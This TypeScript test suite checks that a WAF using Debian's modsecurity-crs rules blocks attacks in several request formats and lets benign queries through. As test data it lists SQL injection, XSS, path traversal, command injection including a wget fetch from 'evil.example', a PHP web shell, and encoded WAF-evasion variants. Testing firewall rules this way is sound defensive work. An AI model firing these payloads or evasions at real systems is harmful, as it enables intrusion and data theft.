// Attacks written otherwise, against the rules of Debian's `modsecurity-crs` at paranoia level 1: each is to be blocked.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { test } from 'node:test';
import { compileWaf } from '../../src/waf/engine/compile.ts';
import type { WafPlan } from '../../src/waf/engine/waf.ts';
import { loadRules } from '../../src/waf/lang/load.ts';
import { baseRules } from '../../src/waf/ruleset/own-rules.ts';
import { ids, type Sent, send } from './engine-harness.ts';

const SETUP = '/etc/modsecurity/crs/crs-setup.conf';
const RULES = '/usr/share/modsecurity-crs/rules';
const skip = existsSync(SETUP) && existsSync(RULES) ? false : 'the package modsecurity-crs is not installed';

const HEADERS = [
  'host',
  'shop.example',
  'user-agent',
  'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
  'accept',
  '*/*',
];

let plan: WafPlan | undefined;

/** The rules that matched; the request goes on where `!` is not in it. */
function fired(sent: Sent): string {
  plan ??= compileWaf(loadRules([baseRules(), { file: SETUP }, { name: 'rules', text: `Include ${RULES}/*.conf\n` }]), {
    mode: 'block',
    timeBudget: 10_000,
  });
  return ids(send(plan, { headers: HEADERS, ...sent }));
}

function blocked(sent: Sent, what: string): void {
  const rules = fired(sent);
  assert.ok(rules.includes('!'), `${what}: ${rules || 'nothing fired'}`);
}

const coded = (text: string) =>
  Array.from(text, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const withBody = (type: string, body: string): Sent => ({
  method: 'POST',
  headers: [...HEADERS, 'content-type', type, 'content-length', String(body.length)],
  body,
});

const ATTACKS: Readonly<Record<string, string>> = {
  'SQL, union': '1 UNION SELECT name, pass FROM users',
  'SQL, tautology': "1' or '1'='1",
  'SQL, blind': "x' and sleep(5)-- ",
  'SQL, short': "admin' or 1=1",
  script: '<script>alert(1)</script>',
  'event handler': '<img src=x onerror=alert(1)>',
  'script address': '<a href="javascript:alert(1)">x</a>',
  path: '../../../../etc/passwd',
  command: ';cat /etc/passwd',
  'command in quotes': '$(wget http://evil.example/x)',
  PHP: '<?php system($_GET["c"]); ?>',
  Java: 'java.lang.Runtime.getRuntime().exec("id")',
  'file from elsewhere': 'http://192.0.2.1/shell.php?',
};

test('every attack in every place', { skip }, () => {
  for (const [name, attack] of Object.entries(ATTACKS)) {
    blocked({ target: `/?q=${coded(attack)}` }, `${name}, query`);
    blocked(withBody('application/x-www-form-urlencoded', `q=${coded(attack)}`), `${name}, form`);
    blocked(withBody('application/json', JSON.stringify({ a: [{ b: attack }] })), `${name}, JSON`);
    const part = `--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n${attack}\r\n--B--\r\n`;
    blocked(withBody('multipart/form-data; boundary=B', part), `${name}, multipart`);
    if (name === 'file from elsewhere') continue;
    const xml = `<a><b>${attack.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</b></a>`;
    blocked(withBody('text/xml', xml), `${name}, XML`);
    blocked({ target: `/?q=${'a '.repeat(2500).replaceAll(' ', '+')}${coded(attack)}` }, `${name}, behind 5,000 bytes`);
  }
});

test('codings that rules of level 1 see through', { skip }, () => {
  const forms = [
    ...[
      '%3Cscript%3Ealert(1)%3C/script%3E',
      '%253Cscript%253Ealert(1)',
      '%3CScRiPt%3Ealert(1)',
      '%u003cscript%u003ealert(1)',
    ],
    ...[
      '%26lt;script%26gt;alert(1)',
      '%3Cscr%00ipt%3Ealert(1)%3C/script%3E',
      '%5cx3cscript%5cx3ealert(1)',
      '%EF%BC%9Cscript%EF%BC%9Ealert(1)',
    ],
    ...[
      '1/**/UnIoN/**/SeLeCt/**/a/**/from/**/b',
      '1%0aunion%0aselect%0aa,b%0afrom%0ac',
      '1%20/*!50000union*/%20/*!50000select*/%20a,b',
    ],
    ...[
      "1'%20oR%20'1'%3D'1",
      "1'||'1'='1",
      "1'%2509or%2509'1'='1",
      '..%2f..%2f..%2fetc%2fpasswd',
      '..%252f..%252fetc%252fpasswd',
    ],
    ...[
      '..%c0%af..%c0%afetc%c0%afpasswd',
      '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
      '....//....//etc/passwd',
      '..%5c..%5cwindows%5cwin.ini',
    ],
    ...[';c%27a%27t%20/etc/passwd', ';c%5cat%20/etc/passwd', '|%20/bin/ca%22%22t%20/etc/pas%5cswd', '%60uname%20-a%60'],
  ];
  for (const form of forms) blocked({ target: `/?q=${form}` }, form);
});

test('bodies that are not what they are said to be', { skip }, () => {
  const attack = coded(ATTACKS['SQL, union']);
  blocked(withBody('application/x-foo', `q=${attack}`), 'a media type that is not expected');
  blocked(withBody('multipart/form-data; boundary=B', `q=${attack}`), 'no parts');
  blocked(withBody('application/json', `{"q": "${ATTACKS['SQL, union']}"`), 'JSON without an end');
  const gzip = { method: 'POST', headers: [...HEADERS, 'content-type', 'text/plain', 'content-encoding', 'gzip'] };
  blocked({ ...gzip, body: '\x1f\x8b\x08' }, 'a coded body');
  blocked({ target: `/?${Array.from({ length: 1001 }, () => 'a=1').join('&')}` }, 'too many arguments');
});

test('what is ordinary passes', { skip }, () => {
  const ordinary = [
    'red shoes',
    "women's shoes",
    '100% cotton',
    'C++ & C#',
    'Zürich',
    '東京',
    'https://shop.example/a?b=c',
    '2024-01-01',
  ];
  for (const text of ordinary) {
    const target = `/?q=${encodeURIComponent(text)}`;
    assert.ok(!fired({ target }).includes('!'), text);
    const body = Buffer.from(JSON.stringify({ text })).toString('latin1');
    assert.ok(!fired(withBody('application/json', body)).includes('!'), text);
  }
});
